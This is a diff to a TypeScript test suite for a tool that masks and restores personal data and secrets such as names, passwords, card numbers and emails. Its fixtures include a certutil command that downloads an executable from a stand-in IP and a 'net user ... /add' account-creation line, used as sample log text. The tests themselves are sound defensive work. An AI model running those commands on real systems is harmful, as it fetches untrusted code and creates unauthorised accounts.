@@ -1,6 +1,6 @@
 import fc from 'fast-check';
 import { describe, expect, it } from 'vitest';
-import { createMasker, type MaskKind } from './mask.ts';
+import { createMasker, type KnownNames, type MaskKind } from './mask.ts';
 
 it.each<[what: string, kind: MaskKind, text: string, secret: string]>([
   ['a password by its name', 'SECRET', 'password=Winter2024! done', 'Winter2024!'],
@@ -81,7 +81,7 @@ it.each<[what: string, kind: MaskKind, text: string, secret: string]>([
 it.each([
   'C:\\Windows\\System32\\svchost.exe -k netsvcs -p -s Schedule',
   'certutil -urlcache -split -f http://203.0.113.9/a.exe a.exe',
-  'order 4111 1111 1111 1112 of 2026-02-03 10:00',
+  'part 4111 1111 1111 1112 of 2026-02-03 10:00',
   'version 10.0.19045.3803, pid 4412, 192.168.10.20',
   'part DE88 3704 5544 5532 5130 55 of the till',
   '356a192b7913b04c54574d18c28d46e6395428ab',
@@ -101,7 +101,7 @@ it.each([
   'echo %PASSWORD% password: $secret',
   'password = $(cat /run/pw), token=%TOKEN%, pwd=$env:PW',
   'password=(Get-Secret till)',
-  '10.0.22631.4602, order 12345678A',
+  '10.0.22631.4602, part 12345678A',
 ])('leaves: %s', (text) => {
   expect(createMasker('t4gt4gt4').mask(text)).toBe(text);
 });
@@ -140,6 +140,160 @@ it('many values take no longer than a few', () => {
   const masked = masker.maskAll(addresses) as string[];
   expect(new Set(masked).size).toBe(addresses.length);
   expect(masked.at(-1)).toBe('[[EMAIL_20000_t4gt4gt4]]');
+});
+
+describe('people who are known', () => {
+  const all = (texts: readonly unknown[], known?: KnownNames) => {
+    const masker = createMasker('t4gt4gt4', known);
+    return { masked: masker.maskAll(texts) as unknown[], restored: masker.restoreAll(masker.maskAll(texts)) };
+  };
+  const SPELLED = [
+    'Mario Rossi',
+    'mario rossi',
+    'MARIO ROSSI',
+    'Rossi, Mario',
+    'rossi mario',
+    'mario.rossi',
+    'M. Rossi',
+  ];
+
+  it.each(SPELLED)('are masked however they are written, by one number, and come back so: %s', (spelled) => {
+    const texts = ['Mario Rossi is in', `then ${spelled} came`];
+    const { masked, restored } = all(texts, { house: ['Mario Rossi'] });
+    expect(masked).toEqual([
+      '[[NAME_1_t4gt4gt4]] is in',
+      expect.stringMatching(/^then \[\[NAME_1b?_t4gt4gt4\]\] came$/),
+    ]);
+    expect(restored).toEqual(texts);
+  });
+  it('are told by a later text, too', () => {
+    expect(all(['xiu zhang and Zhang, again', 'the customer Xiu Zhang']).masked).toEqual([
+      '[[NAME_1b_t4gt4gt4]] and [[NAME_1c_t4gt4gt4]], again',
+      'the customer [[NAME_1_t4gt4gt4]]',
+    ]);
+  });
+  it.each<[what: string, value: unknown, text: string]>([
+    ['a full name', { fullName: 'Xiu Zhang' }, 'for Zhang Xiu'],
+    ['a customer', { customer: 'Zhang' }, 'for Zhang'],
+    ['a name in two fields', { first_name: 'Xiu', last_name: 'Zhang' }, 'for xiu zhang'],
+    ['one written out as a pair', { label: 'owner', value: 'Xiu Zhang' }, 'for x.zhang'],
+    ['a side of a conflict', { fact: 'owner', values: [{ source: 'Entra ID', value: 'Xiu Zhang' }] }, 'for Xiu Zhang'],
+  ])('are those under a key that says so: %s', (_what, value, text) => {
+    const { masked, restored } = all([text, value]);
+    expect(JSON.stringify(masked)).not.toMatch(/zhang/i);
+    expect(restored).toEqual([text, value]);
+  });
+  it('leave alone logins, hosts and files that are called after them', () => {
+    const texts = ['mrossi', 'RETAIL\\mrossi', 'MARIO-ROSSI-LT', 'ROSSI-PC', 'rossi.exe', 'a rossi screen'];
+    expect(all(texts, { involved: ['Mario Rossi'] }).masked).toEqual(texts);
+  });
+  it('are no groups, and nobody whose every word is one of the trade', () => {
+    const texts = ['Domain Admins', 'Service Desk', 'Local System', 'Scout'];
+    expect(all(texts, { house: ['Domain Admins', 'Local System'], involved: ['Service Account'] }).masked).toEqual(
+      texts,
+    );
+  });
+});
+
+describe('what was told once', () => {
+  it('is masked where it stands without its name', () => {
+    const masker = createMasker('t4gt4gt4');
+    const masked = masker.maskAll([
+      'he typed Winter2024! twice',
+      'password=Winter2024!',
+      'loyalty card 99123456',
+      'of 99123456',
+    ]);
+    expect(masked).toEqual([
+      'he typed [[SECRET_1_t4gt4gt4]] twice',
+      'password=[[SECRET_1_t4gt4gt4]]',
+      'loyalty card [[NUMBER_1_t4gt4gt4]]',
+      'of [[NUMBER_1_t4gt4gt4]]',
+    ]);
+  });
+  it('is no word of the text', () => {
+    expect(createMasker('t4gt4gt4').maskAll(['net user helper admin /add', 'the admin came'])).toEqual([
+      'net user helper [[SECRET_1_t4gt4gt4]] /add',
+      'the admin came',
+    ]);
+  });
+});
+
+it('masks what stands under a key that says what it is, numbers too', () => {
+  const masked = createMasker('t4gt4gt4').maskAll({
+    ...{
+      dob: '1980-03-12',
+      phone: 3331234567,
+      street: 'Roma 1',
+      order_id: 44556677,
+      pan: 4111111111111111,
+      port: 8443,
+    },
+  });
+  expect(masked).toEqual({
+    ...{ dob: '[[BIRTH_1_t4gt4gt4]]', phone: '[[PHONE_1_t4gt4gt4]]', street: '[[ADDRESS_1_t4gt4gt4]]' },
+    ...{ order_id: '[[NUMBER_1_t4gt4gt4]]', pan: '[[CARD_1_t4gt4gt4]]', port: 8443 },
+  });
+});
+
+it('keys are texts', () => {
+  const masked = createMasker('t4gt4gt4').maskAll({ 'Mario Rossi': 1, 'bob@shop.example': { 'password=hunter22': 2 } });
+  expect(JSON.stringify(masked)).not.toMatch(/Rossi|bob@|hunter22/);
+});
+
+describe('whatever stands beside whatever', () => {
+  /** Each with what must not be left of it. */
+  const KEPT: readonly [text: string, value: string][] = [
+    ['password=Winter2024!', 'Winter2024!'],
+    ['-p S3cret!x', 'S3cret!x'],
+    ['curl -u admin:hunter22x https://h.example', 'hunter22x'],
+    ['https://bob:pa55word@h.example/', 'pa55word'],
+    ['AKIAABCDEFGHIJKLMNOP', 'AKIAABCDEFGHIJKLMNOP'],
+    ['4111 1111 1111 1111', '4111 1111 1111 1111'],
+    ['DE89370400440532013000', 'DE89370400440532013000'],
+    ['RSSMRA80A01H501U', 'RSSMRA80A01H501U'],
+    ['anna@shop.example', 'anna@shop.example'],
+    ['Mario Rossi', 'Mario Rossi'],
+    ['customer Xiu Zhang', 'Xiu Zhang'],
+    ['born 12.03.1980', '12.03.1980'],
+    ['loyalty card 99123456', '99123456'],
+    ['Friedrichstraße 43, 10117 Berlin', 'Friedrichstraße 43'],
+  ];
+  const plain = fc.constantFrom(
+    ...['called', 'the till', 'C:\\a.exe', '10.0.0.1', 'T1003', 'Cobalt Strike', '-x', '2026-02-03', 'ok'],
+  );
+  const parts = fc.array(fc.oneof(fc.constantFrom(...KEPT.map(([text]) => text)), plain), { maxLength: 8 });
+  const texts = fc.array(
+    fc.tuple(parts, fc.constantFrom(' ', ', ', '\n', ' | ')).map(([some, between]) => some.join(between)),
+    { maxLength: 4 },
+  );
+
+  it('nothing that was masked is left', () => {
+    fc.assert(
+      fc.property(texts, (some) => {
+        const masked = JSON.stringify(createMasker('t4gt4gt4').maskAll(some));
+        for (const [, value] of KEPT) expect(masked).not.toContain(value);
+      }),
+    );
+  });
+  it('masking twice is masking once', () => {
+    fc.assert(
+      fc.property(texts, (some) => {
+        const masker = createMasker('t4gt4gt4');
+        const masked = masker.maskAll(some);
+        expect(masker.maskAll(masked)).toEqual(masked);
+      }),
+    );
+  });
+  it('people’s data comes back as it was', () => {
+    fc.assert(
+      fc.property(texts, (some) => {
+        const mine = some.filter((text) => !/Winter|S3cret|hunter|pa55|AKIA|4111|DE89|RSSMRA/.test(text));
+        const masker = createMasker('t4gt4gt4');
+        expect(masker.restoreAll(masker.maskAll(mine))).toEqual(mine);
+      }),
+    );
+  });
 });
 
 describe('placeholders', () => {
